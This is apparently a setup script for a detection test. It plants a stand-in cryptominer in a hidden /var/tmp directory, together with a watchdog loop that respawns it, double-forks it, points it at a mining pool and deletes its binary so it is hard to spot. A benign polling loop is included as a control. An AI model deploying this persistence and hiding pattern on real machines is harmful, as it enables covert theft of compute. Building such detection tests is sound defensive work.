# A shell script in a temporary folder copies the miner to its place, starts it and takes its name away, again whenever
# it is gone. The miner is forked twice: its parent is pid 1.
mkdir -m 700 /var/tmp/.sys && chown 1002:1002 /var/tmp/.sys
stand_in miner /var/tmp/.sys/.kd 1002
cat > /var/tmp/.sys/watch.sh <<'SCRIPT'
#!/bin/sh
# keeps the service up
while :; do
    if ! kill -0 "$(cat /var/tmp/.sys/pid)" 2>/dev/null; then
        cp /var/tmp/.sys/.kd /var/tmp/.sys/kdevtmpfsi
        chmod 755 /var/tmp/.sys/kdevtmpfsi
        (setsid /var/tmp/.sys/kdevtmpfsi -o 198.51.100.23:3333 --donate-level 1 -k & echo $! > /var/tmp/.sys/pid)
        sleep 1
        rm -f /var/tmp/.sys/kdevtmpfsi
    fi
    sleep 1
done
SCRIPT
chmod 755 /var/tmp/.sys/watch.sh && chown 1002:1002 /var/tmp/.sys/watch.sh
as 1002 /bin/sh /var/tmp/.sys/watch.sh

# A good script of the same user, which also loops.
cat > /home/deploy/poll.sh <<'SCRIPT'
#!/bin/sh
while :; do
    test -d /srv/db
    sleep 5
done
SCRIPT
chown 1002:1002 /home/deploy/poll.sh
as 1002 /bin/sh /home/deploy/poll.sh
wait_for /var/tmp/.sys/kdevtmpfsi
sleep 2
